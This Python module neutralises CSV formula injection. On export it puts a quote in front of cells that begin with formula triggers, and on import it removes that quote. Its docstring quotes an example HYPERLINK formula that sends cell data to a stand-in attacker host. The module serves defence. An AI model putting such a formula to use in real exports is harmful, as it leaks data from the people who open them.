"""CSV cells that a spreadsheet would run as a formula, made harmless on export and
restored on import.

A spreadsheet opening a CSV treats a cell that begins with ``=``, ``+``, ``-`` or ``@``
(and, in some programs, a tab or a carriage return) as a formula: a note such as
``=HYPERLINK("https://evil.example/?"&A2, "see")`` would run on the computer of whoever
opens the export (a clinician, say). Following the OWASP guidance on CSV injection, the
export puts a single quote in front of such a cell, which spreadsheets show as text.

The import takes that quote off again, so importing our own export gives back exactly
what was exported. To tell our quote from one a person typed, the export also quotes a
cell that already begins with quotes followed by one of those characters: the export
adds one quote to every cell matching ``'*[=+\\-@\\t\\r]...``, and the import removes one
quote from every cell matching ``'+[=+\\-@\\t\\r]...``, so the round trip is exact for
every text. (A spreadsheet saving a CSV writes a text cell ``'=x`` as ``=x``: a cell
that really begins with ``'=`` only comes from our export.)

Only text cells are touched; numbers written as numbers (a day's values) are never
prefixed, so ``-1.5`` stays a number.
"""

from __future__ import annotations

import re

__all__ = ["TRIGGERS", "neutralise", "restore"]

#: The first characters that make a spreadsheet evaluate a cell.
TRIGGERS = "=+-@\t\r"
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_OUR_QUOTE = re.compile(r"'+[=+\-@\t\r]")


def neutralise(cell: str) -> str:
    """``cell`` as a spreadsheet will show it, never evaluate it."""
    if cell and (cell[0] in TRIGGERS or (cell[0] == "'" and _NEEDS_QUOTE.match(cell))):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The text :func:`neutralise` was given (any other cell comes back unchanged)."""
    if cell[:1] == "'" and _OUR_QUOTE.match(cell):
        return cell[1:]
    return cell
